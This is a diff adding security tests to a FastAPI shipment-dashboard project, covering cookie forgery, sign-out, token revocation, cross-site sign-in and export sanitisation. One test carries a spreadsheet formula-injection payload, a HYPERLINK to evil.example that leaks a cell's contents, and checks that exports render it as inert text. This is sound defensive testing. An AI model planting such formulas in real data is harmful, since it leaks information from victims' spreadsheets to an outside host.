@@ -3,6 +3,7 @@
 import csv
 import io
 from collections.abc import Iterator
+from datetime import UTC, datetime
 
 import pytest
 from fastapi.testclient import TestClient
@@ -13,7 +14,7 @@ from app.core.config import Settings
 from app.dashboard.cookies import COOKIE_NAME
 from app.main import create_app
 from tests.dashboard.scenario import YEAR, build
-from tests.factories import Api
+from tests.factories import Api, event_body, lane, record_shipment
 
 
 @pytest.fixture
@@ -82,13 +83,64 @@ class TestSignIn:
     def test_forged_cookie_is_ignored(self, browser: TestClient, api: Api) -> None:
         sign_in(browser, api.analyst().token)
         value = browser.cookies[COOKIE_NAME]
-        user_id, expires, signature = value.split(".")
+        user_id, issued, expires, signature = value.split(".")
         browser.cookies.clear()
-        browser.cookies.set(COOKIE_NAME, f"{user_id}.{int(expires) + 99999}.{signature}")
+        browser.cookies.set(COOKIE_NAME, f"{user_id}.{issued}.{int(expires) + 99999}.{signature}")
         assert browser.get("/api/v1/summaries/overview").status_code == 401
         browser.cookies.clear()
         browser.cookies.set(COOKIE_NAME, value)
         assert browser.get("/api/v1/summaries/overview").status_code == 200
+
+    def test_sign_out_ends_the_session_on_the_server(self, browser: TestClient, api: Api) -> None:
+        sign_in(browser, api.analyst().token)
+        kept = browser.cookies[COOKIE_NAME]
+        out = browser.post("/dashboard/sign-out", follow_redirects=False)
+        assert out.status_code == 303
+        browser.cookies.clear()
+        browser.cookies.set(COOKIE_NAME, kept)  # a copy of the cookie taken before sign-out
+        assert browser.get("/api/v1/summaries/overview").status_code == 401
+
+    def test_a_revoked_token_ends_its_sessions(self, browser: TestClient, api: Api) -> None:
+        analyst = api.analyst()
+        sign_in(browser, analyst.token)
+        assert browser.get("/api/v1/summaries/overview").status_code == 200
+        [mine] = [
+            t for t in api.admin.get("/api/v1/tokens").json()["items"] if t["role"] == "analyst"
+        ]
+        assert api.admin.delete(f"/api/v1/tokens/{mine['id']}").status_code == 204
+        assert browser.get("/api/v1/summaries/overview").status_code == 401
+
+    @pytest.mark.parametrize(
+        "headers",
+        [
+            {"Origin": "https://evil.example"},
+            {"Origin": "null"},
+            {"Referer": "https://evil.example/x"},
+        ],
+    )
+    def test_a_cross_site_sign_in_is_refused(
+        self, browser: TestClient, api: Api, headers: dict[str, str]
+    ) -> None:
+        response = browser.post(
+            "/dashboard/sign-in",
+            content=f"token={api.analyst().token}",
+            headers={"Content-Type": "application/x-www-form-urlencoded", **headers},
+            follow_redirects=False,
+        )
+        assert response.status_code == 403
+        assert COOKIE_NAME not in response.headers.get("set-cookie", "")
+
+    def test_a_same_site_sign_in_is_accepted(self, browser: TestClient, api: Api) -> None:
+        response = browser.post(
+            "/dashboard/sign-in",
+            content=f"token={api.analyst().token}",
+            headers={
+                "Content-Type": "application/x-www-form-urlencoded",
+                "Origin": "http://testserver",
+            },
+            follow_redirects=False,
+        )
+        assert response.status_code == 303, response.text
 
     def test_static_files_are_served(self, browser: TestClient) -> None:
         assert browser.get("/dashboard/static/vendor/chart.umd.min.js").status_code == 200
@@ -96,6 +148,43 @@ class TestSignIn:
 
 
 class TestExports:
+    def test_a_formula_in_a_customs_reference_arrives_as_text(self, api: Api) -> None:
+        de_pk = lane(api)
+        pen = de_pk.pen_in("no_objection")
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+        ae = api.customs("AE")
+        shipment = record_shipment(ae, pen, customs_reference=formula, quantity=5.6, unit="t")
+        observed = event_body("transit_entered", "AE", quantity_observed=5800, unit="l")
+        events = f"/api/v1/shipments/{shipment['id']}/events"
+        assert ae.post(events, json=observed).status_code == 201
+        params = {"year": datetime.now(UTC).year, "table": "gaps"}
+        analyst = api.analyst()
+        response = analyst.get(
+            "/api/v1/summaries/shipments/export", params={**params, "format": "csv"}
+        )
+        assert response.status_code == 200, response.text
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        column = rows[0].index("Customs reference")
+        assert [r[column] for r in rows[1:]] == ["'" + formula]
+        response = analyst.get(
+            "/api/v1/summaries/shipments/export", params={**params, "format": "xlsx"}
+        )
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert sheet is not None
+        cells = [
+            c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)
+        ]
+        assert [(c.value, c.data_type) for c in cells] == [("'" + formula, "s")]
+
+    def test_the_printable_report_carries_the_page_security_headers(self, api: Api) -> None:
+        response = api.analyst().get(
+            "/api/v1/summaries/annual-report",
+            params={"year": datetime.now(UTC).year, "format": "html"},
+        )
+        assert response.status_code == 200, response.text
+        assert "script-src 'self'" in response.headers["content-security-policy"]
+        assert response.headers["x-content-type-options"] == "nosniff"
+
     def test_csv_and_xlsx_equal_the_json(self, api: Api) -> None:
         build(api)
         analyst = api.analyst()
@@ -151,3 +240,12 @@ class TestExports:
             "/api/v1/summaries/annual-report", params={"year": YEAR, "format": "html"}
         )
         assert html.status_code == 200 and "Table 7. Seizures" in html.text
+
+
+@pytest.mark.parametrize(
+    "period", ["from=2025-01-01&to=9999-12-31", "from=0001-01-01&to=2025-01-01"]
+)
+def test_a_period_outside_any_plausible_record_is_422(api: Api, period: str) -> None:
+    response = api.analyst().get(f"/api/v1/summaries/overview?{period}")
+    assert response.status_code == 422, response.text
+    assert response.headers["content-type"] == "application/problem+json"
